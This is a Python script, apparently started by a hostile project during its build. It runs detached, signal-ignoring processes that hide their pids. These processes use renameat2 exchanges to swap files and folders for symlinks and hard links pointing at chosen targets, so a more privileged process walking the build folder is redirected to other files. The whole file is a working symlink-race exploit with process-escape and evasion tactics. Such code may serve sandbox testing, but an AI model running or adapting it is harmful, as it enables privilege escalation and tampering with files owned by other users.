"""
What a hostile project starts while it is built: processes that get away from the build, and swap files for links as fast as the kernel
can, so that whoever walks the folder with more rights is led to another's file.

Each shows in its own name (`x`, the lane, how often it has swapped) how far it has come: root reads that whatever sandbox it is in.
They end by themselves after some seconds. Arguments: SECONDS, TARGETS (JSON: {"files": [], "folders": []}), FOLDER ...
With `race.so` (race.c) beside it, its inner loop is native.
"""

import ctypes
import json
import os
import signal
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
AT_FDCWD = -100
RENAME_EXCHANGE = 2
PR_SET_NAME = 15
libc = ctypes.CDLL(None, use_errno=True)
try:
    native = ctypes.CDLL(os.path.join(HERE, "race.so"))
    native.race.restype = ctypes.c_long
except OSError:
    native = None


def exchange(first, second, folder=AT_FDCWD):
    return libc.renameat2(folder, first, folder, second, RENAME_EXCHANGE) == 0


def show(lane, count):
    libc.prctl(PR_SET_NAME, b"x%d:%d" % (lane, count), 0, 0, 0)


def attempt(act):
    try:
        return act()
    except OSError:
        return None


def write(path, content):
    with open(path, "w") as file:
        file.write(content)


class Arena(ctypes.Structure):
    """A folder with pairs of a file and a link, among files that stay: struct arena of race.c."""

    _fields_ = [
        ("folder", ctypes.c_int),
        ("marks", ctypes.c_int),
        ("pairs", ctypes.c_int),
        ("mark", ctypes.POINTER(ctypes.c_char_p)),
        ("one", ctypes.POINTER(ctypes.c_char_p)),
        ("two", ctypes.POINTER(ctypes.c_char_p)),
        ("seen", ctypes.POINTER(ctypes.c_uint)),
        ("at", ctypes.c_int),
    ]

    @classmethod
    def make(cls, path, targets):
        css = "b { color: blue }\n" * 100
        attempt(lambda: os.mkdir(path))
        # Open to all: whoever owns it in the end, we still write there until its mode is another.
        attempt(lambda: os.chmod(path, 0o777))
        for name in ("big.css", "big.js", "secret.txt"):
            attempt(lambda: write(os.path.join(path, name), css * 4))
        for number in range(300):
            target = targets["files"][number % len(targets["files"])]
            attempt(lambda: write(os.path.join(path, "p%d.css" % number), css))
            attempt(lambda: os.symlink(target, os.path.join(path, "q%d.css" % number)))
            attempt(lambda: write(os.path.join(path, "s%d" % number), ""))
            attempt(lambda: os.chmod(os.path.join(path, "s%d" % number), 0o600))
        # Where the kernel lets a user link what is not theirs.
        for number, target in enumerate(targets["files"]):
            attempt(lambda: os.link(target, os.path.join(path, "hard%d.css" % number)))
        # By its descriptor it is reached whatever its name is by then.
        folder = os.open(path, os.O_RDONLY | os.O_DIRECTORY)
        order = os.listdir(folder)
        marks = [name.encode() for name in order if name.startswith("s") and name != "secret.txt"]
        pairs = [(b"p" + name[1:].encode(), b"q" + name[1:].encode()) for name in order if name[0] in "pq"]
        texts = lambda list: (ctypes.c_char_p * len(list))(*list)
        return cls(folder, len(marks), len(pairs), texts(marks), texts([one for one, _ in pairs]), texts([two for _, two in pairs]), (ctypes.c_uint * len(marks))(), 0)


def lay(folder, targets):
    """In the folder: arenas with a link beside each that takes its place. Answers the pairs, the arenas, and what waits to be moved in."""
    outer, arenas, waiting = [], [], []
    attempt(lambda: os.chmod(folder, 0o777))
    for index in range(4):
        inside, link = os.path.join(folder, "c%d" % index), os.path.join(folder, "d%d" % index)
        arenas.append(Arena.make(inside, targets))
        attempt(lambda: os.symlink(targets["folders"][index % len(targets["folders"])], link))
        outer.append((inside.encode(), link.encode()))
    # The folder itself, where its parent lets us.
    for number, target in enumerate(targets["folders"]):
        link = "%s-%d" % (folder, number)
        if attempt(lambda: os.symlink(target, link)) is None and os.path.lexists(link):
            outer.append((folder.encode(), link.encode()))
    # More elsewhere, for when the folder has changed hands and is not closed yet.
    beside = os.path.dirname(folder)
    for place in (os.path.join(beside, "work"), os.path.join(beside, "spare"), os.environ.get("HOME", "/"), tempfile.gettempdir()):
        if attempt(lambda: os.stat(place).st_dev) != os.stat(folder).st_dev or not os.access(place, os.W_OK):
            continue
        for index in range(2):
            inside = os.path.join(place, "z%d-%d" % (os.getpid(), index))
            arenas.append(Arena.make(inside, targets))
            waiting.append((inside, os.path.join(folder, "zz%d" % index), folder))
        break
    return outer, arenas, waiting


def spin(arenas):
    """The inner loop without race.so: blind, and slower."""
    count = 0
    for arena in arenas:
        for index in range(arena.pairs):
            count += exchange(arena.one[index], arena.two[index], arena.folder)
    return count


def hammer(lane, outer, arenas, waiting, until):
    """Swaps until its time is over. Every so often it goes on in a child of its own, so that its pid is never known for long."""
    for name in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGCONT):
        signal.signal(name, signal.SIG_IGN)
    all_arenas = (Arena * len(arenas))(*arenas)
    me = os.getuid()
    count = rounds = 0
    show(lane, count)
    while time.monotonic() < until:
        if lane == 0:
            for _ in range(200):
                for pair in outer:
                    count += exchange(*pair)
                for ready in [each for each in waiting if attempt(lambda: os.stat(each[2]).st_uid) not in (me, None)]:
                    waiting.remove(ready)
                    attempt(lambda: os.rename(ready[0], ready[1]))
        elif native:
            count += native.race(all_arenas, len(arenas), ctypes.c_double(0.02))
        else:
            count += spin(arenas)
        rounds += 1
        show(lane, count)
        if rounds % 16 == 0:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
    os._exit(0)


def escape(work):
    """Runs it in a process that is nobody's child, in a session of its own, with nothing open of the build's."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    empty = os.open(os.devnull, os.O_RDWR)
    for descriptor in range(3):
        os.dup2(empty, descriptor)
    attempt(lambda: os.chdir("/"))
    try:
        work()
    finally:
        os._exit(0)


def main(seconds, targets, folders):
    until = time.monotonic() + seconds
    os.umask(0)
    outer, arenas, waiting = [], [], []
    for folder in folders:
        for all_of_them, more in zip((outer, arenas, waiting), lay(folder, targets)):
            all_of_them += more
    for lane in range(2):
        escape(lambda: hammer(lane, outer, arenas, waiting, until))
    for arena in arenas:
        os.close(arena.folder)


if __name__ == "__main__":
    main(float(sys.argv[1]), json.loads(sys.argv[2]), sys.argv[3:])
